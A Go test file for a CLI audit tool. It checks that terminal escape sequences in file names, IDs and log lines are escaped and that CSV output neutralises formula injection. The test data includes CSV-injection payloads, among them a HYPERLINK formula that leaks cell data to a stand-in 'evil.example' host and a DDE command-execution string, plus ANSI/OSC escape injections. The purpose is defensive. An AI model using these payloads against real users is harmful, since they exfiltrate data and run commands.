package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestInputNeverReachesTheTerminalRaw ingests testdata/hostile/terminal.jsonl (SP ids
// with =HYPERLINK, an ANSI escape and a newline, a record id -2+3, a use @SUM(1)) from a
// file whose name holds an escape and a newline: no control character from input reaches
// stdout or stderr raw, and no CSV cell starts a formula.
func TestInputNeverReachesTheTerminalRaw(t *testing.T) {
	dir := t.TempDir()
	data, err := os.ReadFile("../../testdata/hostile/terminal.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	name := filepath.Join(dir, "evil\x1b[31m\nname.jsonl")
	if err := os.WriteFile(name, data, 0o600); err != nil {
		t.Fatal(err)
	}
	raw := func(what, s string) {
		t.Helper()
		if strings.ContainsAny(s, "\x1b\x07\r") || strings.Contains(s, "\nname.jsonl") || strings.Contains(s, "\nforged") {
			t.Errorf("%s holds a raw control character from input:\n%q", what, s)
		}
	}
	if code, out, _ := run(t, dir, nil, "", "registry", "load", "../../testdata/demo/registry.yaml"); code != 0 {
		t.Fatalf("registry load: %d %s", code, out)
	}
	code, out, errs := run(t, dir, nil, "", "ingest", name)
	if code != exitFindings || !strings.Contains(out, "stored 2, duplicate 0, rejected 2") {
		t.Fatalf("ingest: exit %d\n%s%s", code, out, errs)
	}
	raw("ingest's stderr", errs)
	if want := `evil\x1b[31m\nname.jsonl:3: kind: unknown kind`; !strings.Contains(errs, want) {
		t.Errorf("the rejection line does not name the file escaped (%s):\n%s", want, errs)
	}
	// an SP id with an escape sequence never gets in: ingest rejects a control character
	// in an id (and the table would escape one: TestTableEscapesControls)
	if want := `name.jsonl:4: sp: holds a control character`; !strings.Contains(errs, want) {
		t.Errorf("the SP id with an escape was not rejected (%s):\n%s", want, errs)
	}

	_, table, errs := run(t, dir, nil, "", "audit", "--format", "table")
	raw("the table", table+errs)
	if want := `=HYPERLINK("http://evil.example/?"&A1,"x")`; !strings.Contains(table, want) {
		t.Errorf("the table does not show the SP id:\n%s", table)
	}

	_, out, errs = run(t, dir, nil, "", "audit", "--format", "csv")
	raw("the CSV", out+errs)
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if trimmed := strings.TrimLeft(cell, " "); trimmed != "" && strings.ContainsAny(trimmed[:1], "=+-@\t\r") {
				t.Errorf("cell %q starts a formula", cell)
			}
			seen[cell] = true
		}
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'-2+3", "'@SUM(1)", "'+cmd|' /C calc'!A0", "'=1+1"} {
		if !seen[want] {
			t.Errorf("no cell %q in the CSV:\n%s", want, out)
		}
	}

	// the CLI's slog text handler quotes what it logs
	var logs bytes.Buffer
	m := &Main{Stdin: strings.NewReader(""), Stdout: &bytes.Buffer{}, Stderr: &logs, Getenv: func(string) string { return "" }}
	m.Run(context.Background(), []string{"--db", filepath.Join(dir, "a.db"), "policy", "test"})
	m.Close()
	logs.Reset()
	m.Logger.Warn("ingest", "file", name, "sp", "\x1b]0;pwned\x07")
	raw("a log line", logs.String())
	if strings.Count(logs.String(), "\n") != 1 {
		t.Errorf("one log record is not one line: %q", logs.String())
	}
}
